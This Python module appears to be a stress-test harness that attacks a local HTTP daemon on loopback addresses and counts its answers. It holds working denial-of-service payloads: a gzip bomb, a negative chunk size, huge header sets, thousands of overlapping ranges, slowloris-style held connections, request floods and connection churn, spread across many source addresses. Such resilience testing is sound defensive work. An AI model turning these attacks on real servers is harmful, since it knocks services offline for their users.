"""The attacks: each a coroutine that does its worst for so many seconds, and gives what it was answered, counted.

A host of attackers is made of the addresses of the loopback network: connection number i of a crowd comes from 127.1.x.y, as many from each
address as the daemon allows one client by default."""
import asyncio
import collections
import functools
import gzip
import multiprocessing
import struct
import socket

PER_ADDRESS = 64
HOST = b"Host: localhost\r\n"
HEAVY = b"/api/v1/files?q=%2F%5Bx-z0%5D%7B3%7D.*%5B02468%5D%2F&count=1&limit=100"


def address(number, per_address=PER_ADDRESS):
    host = number // per_address + 1
    return f"127.1.{host // 256}.{host % 256}"


async def connect(port, number=0, receive_buffer=0, per_address=PER_ADDRESS):
    loop = asyncio.get_running_loop()
    connection = socket.socket()
    connection.setblocking(False)
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: one address has ports for each peer
    connection.bind((address(number, per_address), 0))
    try:
        await loop.sock_connect(connection, ("127.0.0.1", port))
    except OSError:
        connection.close()
        raise
    return connection


async def answer(connection, limit=65536):
    """The status of what comes back, or how the connection ended; what follows is thrown away."""
    loop = asyncio.get_running_loop()
    try:
        got = await asyncio.wait_for(loop.sock_recv(connection, limit), 60)
    except ConnectionResetError:
        return "reset"
    except asyncio.TimeoutError:
        return "nothing"
    if not got:
        return "closed"
    return got[9:12].decode("latin1") if got.startswith(b"HTTP/1.1 ") else "no HTTP"


async def send_all(connection, pieces):
    """False: the daemon closed before all of it was sent."""
    loop = asyncio.get_running_loop()
    try:
        for piece in pieces:
            await asyncio.wait_for(loop.sock_sendall(connection, piece), 60)
    except (ConnectionError, asyncio.TimeoutError):
        return False
    return True


def until(seconds):
    """True as long as the attack goes on."""
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    return lambda: loop.time() < end


async def flood(port, seconds, pieces, crowd=8):
    """The same bytes again and again, as fast as they are taken: `pieces` makes them."""
    counts, more = collections.Counter(), until(seconds)

    async def one(number):
        while more():
            try:
                with await connect(port, number) as connection:
                    whole = await send_all(connection, pieces())
                    counts[await answer(connection)] += 1
                    counts["sent to the end"] += whole
            except OSError as problem:
                counts[type(problem).__name__] += 1
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one(number) for number in range(crowd)))
    return counts


def minus_two():
    yield b"POST /api/v1/shares/projects/scans HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: chunked\r\n\r\n-2\r\n"
    for _ in range(64):
        yield b"A" * (1 << 20)


@functools.cache  # to make them again costs the attackers more than the daemon
def headers(block):
    return b"".join(b"X-%d-%d: %s\r\n" % (block, i, b"v" * 100) for i in range(5000))


def million_headers():
    yield b"GET /healthz HTTP/1.1\r\n" + HOST
    yield from map(headers, range(200))


def endless_line():
    yield b"GET /"
    for _ in range(64):
        yield b"a" * (1 << 20)


BOMB = gzip.compress(bytes(100_000_000), 9)


def bomb():
    yield (b"POST /api/v1/shares/projects/scans HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\nContent-Encoding: gzip\r\n"
           b"Content-Length: %d\r\n\r\n" % len(BOMB))
    yield BOMB


def ranges(target):
    def pieces():
        yield b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"Connection: close\r\nRange: bytes=" + b",".join([b"0-"] * 2000) + b"\r\n\r\n"
    return pieces


async def hold(port, seconds, size, opening, then=None, every=1.0, receive_buffer=0, per_address=PER_ADDRESS):
    """A crowd that connects, says `opening`, reads nothing, and says `then` every so often. Counts what the last state of each was."""
    counts, more, loop = collections.Counter(), until(seconds), asyncio.get_running_loop()
    crowd = {}
    while more():
        for number in [n for n in range(size) if n not in crowd][:250 if counts["connected"] >= size else size]:
            try:
                crowd[number] = await connect(port, number, receive_buffer, per_address)
                await send_all(crowd[number], [opening] if opening else [])
                counts["connected"] += 1
            except OSError as problem:
                counts[type(problem).__name__] += 1
        counts["open at once"] = max(counts["open at once"], len(crowd))
        turn = loop.time() + every
        while then and loop.time() < turn and more():
            await asyncio.sleep(0.05)
        if not then:
            await asyncio.sleep(0.2)
            continue
        for number, connection in list(crowd.items()):
            try:
                connection.send(then)
            except BlockingIOError:
                pass
            except OSError:
                counts["cut by the daemon"] += 1
                crowd.pop(number).close()
    for connection in crowd.values():
        try:
            got = connection.recv(4096)
            counts[got[9:12].decode("latin1") if got.startswith(b"HTTP/1.1 ") else "closed" if not got else "other bytes"] += 1
        except BlockingIOError:
            counts["no answer"] += 1
        except OSError:
            counts["reset"] += 1
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()
    return counts


async def hammer(port, seconds, target, crowd=PER_ADDRESS):
    """One client that asks what is expensive, on all connections that it may have, each again as soon as it has its answer."""
    return await flood(port, seconds, lambda: [b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"], crowd)


async def hang_up(port, seconds, target, crowd=PER_ADDRESS):
    """Asks what is expensive and goes away at once."""
    counts, more = collections.Counter(), until(seconds)

    async def one(number):
        while more():
            try:
                with await connect(port, number) as connection:
                    await send_all(connection, [b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"\r\n"])
                    await asyncio.sleep(0.02)
                counts["hung up"] += 1
            except OSError as problem:
                counts[type(problem).__name__] += 1

    await asyncio.gather(*(one(number) for number in range(crowd)))
    return counts


async def pipeline(port, seconds, crowd=8, requests=2000):
    """Thousands of requests in one piece, whose answers are read slowly or never."""
    burst = (b"GET /api/v1/files?limit=100 HTTP/1.1\r\n" + HOST + b"\r\n") * requests
    return await flood(port, seconds, lambda: [burst], crowd)


async def churn(port, seconds):
    """Connections that are opened and reset, as many as can be."""
    counts, more = collections.Counter(), until(seconds)
    while more():
        try:
            connection = await connect(port, counts["opened"] % 512)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()
            counts["opened"] += 1
        except OSError as problem:
            counts[type(problem).__name__] += 1
            await asyncio.sleep(0.01)
    return counts


def _run(attack, results):
    results.put(dict(asyncio.run(attack())))


def in_background(attack):
    """Starts `attack` (gives a coroutine) in a process of its own; the function that it gives waits for the counts."""
    results = multiprocessing.Queue()
    process = multiprocessing.Process(target=_run, args=(attack, results))
    process.start()

    def wait():
        counts = results.get(timeout=300)
        process.join()
        return counts

    return wait
